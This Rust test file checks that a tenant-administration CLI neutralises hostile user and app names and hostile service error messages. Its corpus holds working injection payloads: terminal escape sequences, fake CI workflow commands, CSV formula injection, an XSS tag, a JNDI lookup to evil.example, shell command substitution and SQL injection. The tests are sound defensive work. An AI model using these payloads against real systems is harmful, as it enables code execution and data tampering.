//! Names and messages that somebody chose to do harm: shown, never obeyed
//! (R56, R57, R58, R63).
use std::collections::BTreeMap;
use std::sync::Arc;

use entractl::sandbox::seed::{cast, user_id};
use entractl::sandbox::{FaultKind, Object};
use serde_json::{Value, json};

use crate::bench::{Bench, writes};
use crate::wire::{Tamper, answer};

/// About 300 strings: each nasty piece in front, in the middle, at the end and
/// doubled.
pub(crate) fn corpus() -> Vec<String> {
    let pieces: Vec<String> = [
        "\u{1b}[2J",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}]0;title\u{7}",
        "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "\u{1b}]52;c;ZXZpbA==\u{7}",
        "\u{1b}P$q\"p\u{1b}\\",
        "\u{1b}_apc\u{1b}\\",
        "\u{1b}^pm\u{1b}\\",
        "\u{1b}[6n",
        "\u{1b}c",
        "\u{9b}2J",
        "\u{9d}0;x\u{9c}",
        "\u{90}q\u{9c}",
        "\u{85}next line",
        "\u{8d}",
        "\r",
        "\n",
        "\r\nGranted",
        "\n\nNext:\n  entractl users contain you",
        "\t\t",
        "\u{8}\u{8}\u{8}",
        "\u{b}",
        "\u{c}",
        "\u{0}",
        "\u{7f}",
        "\u{200b}",
        "\u{200c}",
        "\u{200d}",
        "\u{200e}",
        "\u{200f}",
        "\u{2028}",
        "\u{2029}",
        "\u{202a}",
        "\u{202d}",
        "\u{202e}gnp.exe",
        "\u{2060}",
        "\u{2063}",
        "\u{2066}\u{2069}",
        "\u{61c}",
        "\u{ad}",
        "\u{180e}",
        "\u{feff}",
        "\u{fff9}a\u{fffa}b\u{fffb}",
        "\u{e0001}\u{e0041}\u{e007f}",
        "\u{fe0f}",
        "\u{e0100}",
        "\u{3164}",
        "\u{115f}",
        "\u{ffa0}",
        "\u{34f}",
        "::error::owned",
        "  ::set-output name=x::y",
        "\n::add-mask::x",
        "##vso[task.setvariable variable=x]y",
        "##[group]x",
        "##teamcity[x]",
        "=cmd|' /C calc'!A0",
        "+1",
        "-1+cmd",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "'=1",
        "\u{ff1d}1",
        "\",\"",
        "a;=1",
        "| a | b |",
        "[x](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "]]><x>&amp;",
        "{{x}}",
        "${jndi:ldap://evil.example}",
        "$(id)`id`",
        "'; drop table tasks; --",
        "--yes",
        "%s%n",
    ]
    .map(str::to_owned)
    .to_vec();
    let mut all = Vec::new();
    for piece in &pieces {
        all.push(piece.clone());
        all.push(format!("Ada {piece}"));
        all.push(format!("{piece} Admin"));
        all.push(format!("Ada{piece}{piece}Admin"));
    }
    assert!(all.len() >= 300, "{}", all.len());
    all
}

/// Written without a look at the program's own list.
fn is_allowed(c: char) -> bool {
    let hidden = matches!(u32::from(c),
        0x00..=0x09 | 0x0b..=0x1f | 0x7f..=0x9f | 0xad | 0x34f | 0x61c | 0x115f | 0x1160
        | 0x17b4 | 0x17b5 | 0x180b..=0x180f | 0x200b..=0x200f | 0x2028..=0x202e
        | 0x2060..=0x206f | 0x3164 | 0xfe00..=0xfe0f | 0xfeff | 0xffa0 | 0xfff0..=0xfffb
        | 0x1d173..=0x1d17a | 0xe0000..=0xe0fff);
    !hidden
}

#[track_caller]
fn is_harmless(text: &str, what: &str) {
    let bad = text.chars().find(|c| !is_allowed(*c));
    assert!(bad.is_none(), "{what}: {bad:?} in {text:?}");
    for line in text.lines() {
        let obeyed = line.trim_start().starts_with("::");
        assert!(!obeyed, "{what}: a command for GitHub in {text:?}");
        for mark in ["##[", "##vso[", "##teamcity["] {
            assert!(!line.contains(mark), "{what}: {mark} in {text:?}");
        }
    }
}

fn plant(bench: &Bench, text: &str) {
    bench.sandbox.with_tenant(|tenant| {
        let user = tenant.users.get_mut(&user_id(cast::PLAIN)).unwrap();
        for name in ["displayName", "jobTitle", "department", "mail"] {
            user.set(name, text);
        }
        let mut all: Vec<Object> = tenant.service_principals.all().cloned().collect();
        for principal in &mut all {
            principal.set("displayName", text);
            principal.set("appDisplayName", text);
            principal.set(
                "verifiedPublisher",
                json!({ "displayName": text, "verifiedPublisherId": "1" }),
            );
            tenant.service_principals.insert(principal.clone());
        }
        tenant.organization.set("displayName", text);
    });
}

#[test]
fn no_name_of_a_tenant_moves_a_terminal_or_a_ci_job() {
    let id = user_id(cast::PLAIN);
    let mut bench = Bench::new();
    for (number, text) in corpus().into_iter().enumerate() {
        plant(&bench, &text);
        let what: String = text.chars().take(60).collect();
        // Every string in the two reports with most of a name in them, every
        // form of every piece somewhere in the others.
        let most = if number % 4 == (number / 4) % 4 { 7 } else { 2 };
        let lines = [
            format!("users show {id}"),
            "users list rowan -o csv".to_owned(),
            format!("users show {id} -o markdown"),
            format!("users disable {id} --dry-run"),
            format!("users contain {id}"),
            "apps discover".to_owned(),
            "apps bind s3 --client-id 5e700003-aaaa-4aaa-8aaa-00000000da7a".to_owned(),
        ];
        for line in lines.into_iter().take(most) {
            let ran = bench.run(&line);
            assert!([0, 10, 13].contains(&ran.exit), "{what}: {}", ran.all());
            let out = ran.out.replace("\r\n", "\n");
            is_harmless(&out, &format!("{line} on {what:?}"));
            is_harmless(&ran.err, &format!("{line} on {what:?}"));
            assert!(ran.out.len() + ran.err.len() < 100_000, "{line} is not cut");
        }
    }
    assert_eq!(writes(&bench.requests()), 0);
}

#[test]
fn a_name_without_end_is_cut_but_in_json() {
    let id = user_id(cast::PLAIN);
    let mut bench = Bench::new();
    for text in ["x".repeat(1024 * 1024), "\u{1b}[".repeat(10_000)] {
        plant(&bench, &text);
        for line in [
            format!("users show {id}"),
            "users list rowan".to_owned(),
            format!("users contain {id}"),
        ] {
            let ran = bench.run(&line);
            is_harmless(&ran.out, &line);
            is_harmless(&ran.err, &line);
            assert!(ran.out.len() + ran.err.len() < 200_000, "{line} is not cut");
        }
        let json = bench
            .run(&format!("users show {id} -o json"))
            .exits(0)
            .json();
        assert!(json.to_string().len() > text.len());
    }
}

#[test]
fn no_name_gets_through_status_grant_or_its_reports() {
    let mut bench = Bench::new();
    for text in corpus().iter().step_by(7) {
        plant(&bench, text);
        let what: String = text.chars().take(60).collect();
        for line in [
            "status",
            "status -o markdown",
            "status -o csv",
            "status -o junit",
            "status -o sarif",
            "status -o openmetrics",
            "grant search --direct --dry-run",
            "grant search --url",
            "troubleshoot search",
        ] {
            let ran = bench.run(line);
            let unwritten = ran.err.contains("being written");
            assert!(ran.exit != 1 || unwritten, "{what}: {}", ran.all());
            let out = ran.out.replace("\r\n", "\n");
            is_harmless(&out, &format!("{line} on {what:?}"));
            is_harmless(&ran.err, &format!("{line} on {what:?}"));
        }
    }
}

#[test]
fn a_message_of_the_service_is_shown_and_not_obeyed() {
    for text in corpus().iter().step_by(3) {
        let mut bench = Bench::new();
        let body = json!({ "error": { "code": text, "message": text, "innerError": { "request-id": text } } });
        let login = json!({ "error": text, "error_description": text, "trace_id": text });
        let wire = Tamper::answering(&bench.sandbox, move |request| {
            let graph = request.uri().host() == Some("graph.sandbox.example");
            let body = if graph { &body } else { &login };
            Some(answer(
                if graph { 403 } else { 400 },
                &[("content-type", "application/json")],
                &body.to_string(),
            ))
        });
        bench.wire = Some(wire);
        for line in [
            "users list sam",
            "users list sam --debug",
            "users disable rowan.reyes-vale@meridian.example --yes",
            "auth login --for read --device-code",
        ] {
            let ran = bench.run(line);
            assert_ne!(ran.exit, 0, "{}", ran.all());
            is_harmless(&ran.err, line);
            is_harmless(&ran.out, line);
            assert!(ran.err.len() < 20_000, "{line}: not cut: {}", ran.err.len());
        }
    }
}

#[test]
fn json_gives_every_name_back_as_it_is() {
    let id = user_id(cast::PLAIN);
    let mut bench = Bench::new();
    for text in corpus() {
        plant(&bench, &text);
        for form in ["json", "jsonl"] {
            let ran = bench.run(&format!("users show {id} -o {form}")).exits(0);
            is_harmless(&ran.out, "JSON");
            let shown = ran.json().to_string();
            let wanted = serde_json::to_string(&text).unwrap();
            assert!(shown.contains(&wanted), "{form}: {shown}");
        }
    }
}

#[test]
fn a_lone_surrogate_hides_nobody() {
    let mut bench = Bench::new();
    let wire = Tamper::changing(&bench.sandbox, |_, response| {
        let text = String::from_utf8_lossy(response.body().as_bytes()).into_owned();
        let text = text.replace("Rowan Reyes", "Row\\ud800n \\udc00\\ud83d\\ude00");
        response.map(|_| text.into_bytes().into())
    });
    bench.wire = Some(Arc::clone(&wire) as _);
    let id = user_id(cast::PLAIN);
    let ran = bench.run(&format!("users show {id} -o json")).exits(0);
    assert!(
        ran.out.contains("Row\u{fffd}n \u{fffd}\u{1f600}"),
        "{}",
        ran.out
    );
    bench.run(&format!("users show {id}")).exits(0);
}

#[test]
fn a_question_repeats_the_object_id_whatever_the_name_is() {
    let id = user_id(cast::PLAIN);
    for text in corpus().iter().step_by(10) {
        let mut bench = Bench::new();
        plant(&bench, text);
        bench.typed = Some("n\n".to_owned());
        let ran = bench
            .run(&format!("users contain {}", cast::PLAIN))
            .exits(13);
        assert!(ran.err.contains(&id), "{}", ran.err);
        assert_eq!(writes(&bench.requests()), 0);
    }
}

/// RFC 4180, as a spreadsheet reads it.
fn records(text: &str) -> Vec<Vec<String>> {
    let mut all = Vec::new();
    let (mut record, mut field, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => record.push(std::mem::take(&mut field)),
            '\r' if !quoted => {}
            '\n' if !quoted => {
                record.push(std::mem::take(&mut field));
                all.push(std::mem::take(&mut record));
            }
            other => field.push(other),
        }
    }
    assert!(!quoted && field.is_empty() && record.is_empty());
    all
}

#[test]
fn a_spreadsheet_runs_nothing_and_every_text_can_be_had_back() {
    let mut bench = Bench::new();
    for text in [
        "=cmd|' /C calc'!A0",
        "+1",
        "-1",
        "@SUM(1)",
        "'=1",
        "''x",
        "O'Brien",
        "a;=1",
        "a,\"b\"",
        " =1",
        "\u{ff1d}1",
        "\u{ff0b}1",
        "\u{ff0d}1",
        "\u{ff20}x",
        "plain",
    ] {
        plant(&bench, text);
        let list: Value = bench.run("users list rowan -o json").exits(0).json();
        let csv = bench.run("users list rowan -o csv").exits(0).out;
        let records = records(&csv);
        let (header, rows) = records.split_first().unwrap();
        assert_eq!(header[0], "id");
        let name = header.iter().position(|key| {
            key.to_lowercase().contains("name") && !key.to_lowercase().contains("principal")
        });
        for (row, user) in rows.iter().zip(list["users"].as_array().unwrap()) {
            assert_eq!(row.len(), header.len());
            assert_eq!(user["id"], row[0].as_str(), "{csv}");
            let cell = &row[name.unwrap()];
            let first = cell.trim_start().chars().next().unwrap_or(' ');
            assert!(
                !"=+-@\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}\t\r\0".contains(first),
                "{cell}"
            );
            assert_eq!(
                cell.strip_prefix('\'').unwrap_or(cell),
                user["name"],
                "{csv}"
            );
        }
        assert_eq!(rows.len(), list["users"].as_array().unwrap().len());
    }
}

#[test]
fn stdout_is_one_document_of_its_schema_whatever_goes_wrong() {
    let schemas = crate::schemas::files();
    let mut validators = BTreeMap::new();
    let mut wrong = Vec::new();
    let faults = [
        None,
        Some(FaultKind::HostileNames),
        Some(FaultKind::ErrorBefore),
        Some(FaultKind::Truncated),
        Some(FaultKind::RolesDenied),
        Some(FaultKind::DropAfter),
        Some(FaultKind::WrongId),
    ];
    for fault in faults {
        let mut bench = Bench::new();
        if let Some(kind) = fault {
            bench.run(&format!(
                "sandbox faults set {}:rate=0.5,seed=5",
                kind.name()
            ));
        }
        for line in crate::canary::COMMANDS {
            let ran = bench.run(&format!("{line} -o json"));
            if ran.out.is_empty() && ran.exit == 0 {
                continue;
            }
            let document = ran.json();
            let kind = document["kind"].as_str().unwrap_or_default().to_owned();
            if kind == "error" {
                assert_ne!(ran.exit, 0, "{line}: {}", ran.all());
                assert_eq!(document["error"]["exitCode"], ran.exit, "{line}");
            }
            let Some(schema) = schemas.get(&format!("{kind}.json")) else {
                wrong.push(format!("{line}: no schema {kind}.json"));
                continue;
            };
            let validator = validators.entry(kind.clone()).or_insert_with(|| {
                let schema: Value = serde_json::from_str(schema).unwrap();
                jsonschema::validator_for(&schema).unwrap()
            });
            for error in validator.iter_errors(&document) {
                wrong.push(format!(
                    "{line} ({kind}): {error} at {}",
                    error.instance_path()
                ));
            }
        }
    }
    wrong.sort();
    wrong.dedup();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_is_said_never_changes_what_is_answered() {
    for line in [
        "users list sam -o json",
        "status -o json",
        "apps list -o csv",
    ] {
        let plain = Bench::new().run(line);
        for flag in ["--debug", "--verbose", "--quiet"] {
            let ran = Bench::new().run(&format!("{line} {flag}"));
            assert_eq!(
                (ran.exit, &ran.out),
                (plain.exit, &plain.out),
                "{line} {flag}"
            );
        }
    }
}

/// A real terminal: what arrives there is text and colour, nothing else.
#[cfg(target_os = "linux")]
#[test]
fn a_real_terminal_sees_text_and_colour_only() {
    let home = tempfile::tempdir().unwrap();
    let binary = env!("CARGO_BIN_EXE_entractl");
    let in_terminal = |args: &str| {
        let output = std::process::Command::new("script")
            .args(["-qec", &format!("'{binary}' --sandbox {args}"), "/dev/null"])
            .env_clear()
            .env("HOME", home.path())
            .env("TERM", "xterm-256color")
            .env("PATH", "/usr/bin:/bin")
            .stdin(std::process::Stdio::null())
            .output()
            .ok()?;
        Some(String::from_utf8(output.stdout).unwrap())
    };
    if in_terminal("sandbox faults set hostile-names").is_none() {
        eprintln!("skipped: there is no script(1)");
        return;
    }
    let mut colour = false;
    for args in [
        format!("users show {}", cast::PLAIN),
        "users list --limit 30".to_owned(),
        "apps discover".to_owned(),
        "status".to_owned(),
        format!("users disable {} --no-input", cast::PLAIN),
        "users show nobody@meridian.example".to_owned(),
    ] {
        let text = in_terminal(&args).unwrap().replace("\r\n", "\n");
        let mut rest = text.as_str();
        let mut plain = String::new();
        while let Some((before, after)) = rest.split_once('\u{1b}') {
            plain.push_str(before);
            let end = after.find('m').unwrap_or_default();
            let codes = after[..end].strip_prefix('[');
            let is_colour =
                codes.is_some_and(|codes| codes.chars().all(|c| c.is_ascii_digit() || c == ';'));
            assert!(is_colour, "{args}: {:?}", &after[..after.len().min(20)]);
            colour = true;
            rest = &after[end + 1..];
        }
        plain.push_str(rest);
        is_harmless(&plain, &args);
        assert!(
            plain.contains("\\u{1b}") || !args.contains("discover"),
            "{plain}"
        );
    }
    assert!(colour, "no terminal was there");
}
